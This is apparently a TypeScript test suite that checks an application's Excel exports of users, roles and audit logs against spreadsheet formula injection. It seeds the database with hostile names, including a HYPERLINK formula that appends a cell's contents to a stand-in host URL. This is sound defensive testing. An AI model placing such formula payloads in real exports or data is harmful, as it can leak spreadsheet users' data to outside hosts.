import { createClient } from '@oasis/api-client';
import type { CallId } from '@oasis/api-client/contract';
import { callLine } from '@oasis/api-client/contract';
import type { Locale } from '@oasis/engine/base';
import * as fc from 'fast-check';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hostileText } from '../hostile-texts.ts';
import { share } from '../reliability/counts.ts';
import { type TestServer, testServer } from '../test-server.ts';
import { asRead, sheetOf } from '../workbooks.ts';
import { rolesSeen, usersReached } from './oracle.ts';

/** People with a name each that is meant to do harm in a file; every one of them has four such texts. */
const PEOPLE = share(60, 2_500);
const SEED = 20_261_122;
const LOCALES = ['en', 'zh'] as const;

let server: TestServer;
const tokens = new Map<string, string>();
beforeAll(async () => {
  server = await testServer();
  await addHostileNames(server);
  await grantExports(server);
  for (const account of ['admin', 'DEALERIT', 'DEALER2']) tokens.set(account, (await server.as(account)).token);
}, 120_000);
afterAll(() => server.close());

type Export = Extract<
  CallId,
  | 'users.exportExcel'
  | 'matrix.exportUsers'
  | 'matrix.exportUserHistory'
  | 'matrix.exportRoles'
  | 'matrix.exportRoleHistory'
  | 'audit.export'
>;

/** Cells of an export under their header, which comes first. */
async function exported(
  call: Export,
  account: string,
  { query = '', locale = 'en' }: { readonly query?: string; readonly locale?: Locale } = {},
) {
  const reply = await server.app.inject({
    url: `${callLine(call).path}${query}`,
    headers: { authorization: tokens.get(account) ?? '', 'x-oasis-locale': locale },
  });
  expect(reply.statusCode).toBe(200);
  const { rows, formulas } = sheetOf(reply.rawPayload);
  expect(formulas).toEqual([]);
  const [header = [], ...lines] = rows;
  const column = (title: string): readonly unknown[] => lines.map((line) => line[header.indexOf(title)]);
  return { header, lines, column };
}

const KINDS = ['admin', 'DEALERIT', 'DEALER2'] as const;

describe('the content of an export', () => {
  it.each(KINDS)(
    '[USR-070] [USR-089] [API-009] of users: exactly the users within reach of %s, as they are stored',
    async (account) => {
      const reached = await usersReached(server.owner, account);
      const expected = reached
        .map(({ usrnm, fulnm, email }) => [usrnm, fulnm, email].map(asRead))
        .toSorted(([a = ''], [b = '']) => (a < b ? -1 : 1));
      for (const locale of LOCALES) {
        const { lines } = await exported('users.exportExcel', account, { locale });
        const found = lines.map((line) => [line[0], line[1], line[5]].map(String));
        expect(found.toSorted(([a = ''], [b = '']) => (a < b ? -1 : 1))).toEqual(expected);
      }
    },
  );

  it.each(['usrnm', '-usrnm', 'fulnm', '-type', 'org', '-email', 'state'])(
    '[USR-089] of users sorted by %s: the order of the list',
    async (sort) => {
      const query = `?name=a&sort=${sort}`;
      const list = await server.app.inject({
        url: `${callLine('users.list').path}${query}&pageIndex=0&pageSize=10000`,
        headers: { authorization: tokens.get('admin') ?? '' },
      });
      const { data } = list.json<{ data: { content: { usrnm: string }[] } }>();
      expect(data.content.length).toBeGreaterThan(5);
      const { column } = await exported('users.exportExcel', 'admin', { query });
      expect(column('Account')).toEqual(data.content.map(({ usrnm }) => asRead(usrnm)));
    },
  );

  it.each(KINDS)(
    '[MTX-023] [API-009] of the user matrix: a line for each role and BU of the users within reach of %s',
    async (account) => {
      const ids = (await usersReached(server.owner, account)).map(({ usrid }) => usrid);
      const { rows } = await sql<{ line: string[] }>`
      select array[u.usrnm, u.fulnm, coalesce(u.email, ''), coalesce(r.name_en, ''), coalesce(b.name_en, '')] as line
      from app_user u
      left join user_role ur on ur.user_id = u.id and ur.state left join role r on r.id = ur.role_id
      left join user_bu ub on ub.user_id = u.id and ub.state left join bu b on b.id = ub.bu_id
      where u.id = any(${ids})`.execute(server.owner);
      const { lines } = await exported('matrix.exportUsers', account);
      const found = lines.map((line) => [line[1], line[2], line[5], line[7], line[8]].join('\u0001'));
      expect(found.toSorted()).toEqual(rows.map(({ line }) => line.map(asRead).join('\u0001')).toSorted());
    },
  );

  it.each(KINDS)(
    '[MTX-024] [API-009] of the role matrix: the roles within reach of %s, with both names as stored',
    async (account) => {
      const seen = await rolesSeen(server.owner, account);
      const { rows } = await sql<{ en: string; zh: string }>`
      select distinct r.name_en as en, r.name_cn as zh from role r join role_menu m on m.role_id = r.id
      where r.id = any(${[...seen]})`.execute(server.owner);
      const names = { en: rows.map(({ en }) => asRead(en)), zh: rows.map(({ zh }) => asRead(zh)) };
      for (const [locale, title] of [
        ['en', 'Role'],
        ['zh', '角色'],
      ] as const) {
        const { column } = await exported('matrix.exportRoles', account, { locale });
        expect([...new Set(column(title))].map(String).toSorted()).toEqual(names[locale].toSorted());
      }
    },
  );

  it.each(KINDS)(
    '[MTX-025] [API-009] of the history of users: changes of the users within reach of %s',
    async (account) => {
      const reached = new Set((await usersReached(server.owner, account)).map(({ usrnm }) => asRead(usrnm)));
      const { column } = await exported('matrix.exportUserHistory', account);
      const changed = column('Account').map(String);
      expect(changed.length).toBeGreaterThan(0);
      expect(changed.filter((usrnm) => !reached.has(usrnm))).toEqual([]);
      expect(column('After')).toContain(HARM);
    },
  );

  it('[MTX-026] of the history of roles, and of the audit log: texts as recorded, in both languages', async () => {
    for (const [locale, after, title] of [
      ['en', 'After', 'Account'],
      ['zh', '变更后', '账号'],
    ] as const) {
      expect((await exported('matrix.exportRoleHistory', 'admin', { locale })).column(after)).toContain(HARM);
      const log = await exported('audit.export', 'admin', { locale });
      expect(log.column(title)).toContain(HARM);
      const { rows } = await sql<{ id: string }>`select id::text from audit_log order by at desc, id desc`.execute(
        server.owner,
      );
      expect(log.lines.map(([id]) => id)).toEqual(rows.map(({ id }) => id));
    }
  });
});

describe('an export without rows', () => {
  const nothing = 'nobodyiscalledso';
  const matrix = { roleName: nothing };
  const EXPORTS: readonly (readonly [Export, Readonly<Record<string, string>>])[] = [
    ['users.exportExcel', { name: nothing }],
    ['matrix.exportUsers', matrix],
    ['matrix.exportUserHistory', matrix],
    ['matrix.exportRoles', matrix],
    ['matrix.exportRoleHistory', matrix],
    ['audit.export', { account: nothing }],
  ];

  /** The screens' client's result for a file; `onWay` is the part between it and the server. */
  const toldOf = async (call: Export, query: Readonly<Record<string, string>>, onWay: (headers: Headers) => void) => {
    const told: string[] = [];
    const client = createClient({
      fetch: async (address) => {
        const reply = await server.app.inject({
          url: String(address),
          headers: { authorization: tokens.get('admin') },
        });
        const headers = new Headers(Object.entries(reply.headers).map(([name, value]) => [name, String(value)]));
        onWay(headers);
        return new Response(new Uint8Array(reply.rawPayload), { status: reply.statusCode, headers });
      },
      locale: () => 'en',
      token: { get: () => tokens.get('admin'), set: () => undefined },
      onFailure: ({ message }) => told.push(message),
    });
    const { ok } = await client.download(call, { query });
    return { ok, told };
  };

  it.each(EXPORTS)('[API-024] [API-025] [API-026] %s', async (call, query) => {
    expect(await toldOf(call, {}, () => undefined)).toEqual({ ok: true, told: [] });
    expect(await toldOf(call, query, () => undefined)).toEqual({ ok: false, told: ['Data is null!'] });
    const unnamed = await toldOf(call, {}, (headers) => headers.delete('content-disposition'));
    expect(unnamed).toEqual({ ok: false, told: ['No File!'] });
  });
});

const HARM = '=HYPERLINK("http://example.test?"&A1,"\t@+-＝")</t>_x003D_\u0001&lt;';

/** Names by statements: no form of the product has a say in them. */
async function addHostileNames({ owner }: TestServer): Promise<void> {
  const texts = fc.sample(hostileText, { numRuns: PEOPLE * 3, seed: SEED });
  const people = Array.from({ length: PEOPLE }, (_, place) => ({
    usrnm: `${'=+-@＝'[place % 5]}${place}`,
    fulnm: texts[place * 3],
    email: texts[place * 3 + 1],
    org: place % 3 === 0 ? 'D1001' : place % 3 === 1 ? 'D1002' : 'HQ',
  }));
  // The database refuses some of them; a file has to withstand also those that an older database accepted.
  await sql`alter table app_user drop constraint app_user_name_seen`.execute(owner);
  await sql`
    insert into app_user (usrnm, fulnm, email, user_type_id, org_id)
    select p.usrnm, p.fulnm, p.email, case when p.org = 'HQ' then 10001 else 10002 end, o.id
    from json_to_recordset(${JSON.stringify(people)}::json) as p (usrnm text, fulnm text, email text, org text)
    join org o on o.code = p.org`.execute(owner);
  await sql`
    with named as (
      select id, row_number() over (order by id) as place from role),
    texts as (select t.value, t.ordinality as place from json_array_elements_text(${JSON.stringify(texts)}::json) with ordinality t)
    update role r set name_en = t.value || r.id, name_cn = t.value || '角' || r.id
    from named n join texts t on t.place = n.place where n.id = r.id`.execute(owner);
  await sql`update org set name_en = ${HARM} || id, name_cn = ${HARM} || '店' || id where code <> 'HQ'`.execute(owner);
  await sql`update bu set name_en = ${HARM} || id`.execute(owner);
  const record = (action: string, event: string, subject: string, field: string) =>
    sql`
    insert into audit_log (at, event, outcome, action, usrid, usrnm, subject, message_code, request_id, details)
    values (now(), ${event}, 'done', ${action}, 1, ${HARM}, ${subject}, '', ${HARM},
      ${JSON.stringify({ before: { [field]: 'a' }, after: { [field]: HARM } })}::jsonb)`.execute(owner);
  const { rows } = await sql<{
    id: number;
  }>`select id from app_user where org_id in (select id from org where code like 'D100%')`.execute(owner);
  for (const { id } of rows.filter((_, place) => place % 5 === 0))
    await record('user.update', 'USER_UPDATED', `user:${id}`, 'fulnm');
  await record('role.update', 'ROLE_UPDATED', 'role:1', 'rolnmen');
}

/** Every role may export, so that only rows are in question. */
async function grantExports({ owner }: TestServer): Promise<void> {
  const codes = sql`array['USER_EXPORT', 'USER_READ', 'ROLE_MATRIX_EXPORT', 'ROLE_MATRIX_HISTORY', 'USER_MATRIX_EXPORT',
    'USER_MATRIX_HISTORY', 'AUDIT_EXPORT']`;
  await sql`insert into group_api (group_id, api_id)
    select g.id, a.id from privilege_group g, api a where a.code = any(${codes}) on conflict do nothing`.execute(owner);
  await sql`insert into role_api (role_id, api_id)
    select r.id, a.id from role r, api a where a.code = any(${codes}) on conflict do nothing`.execute(owner);
}
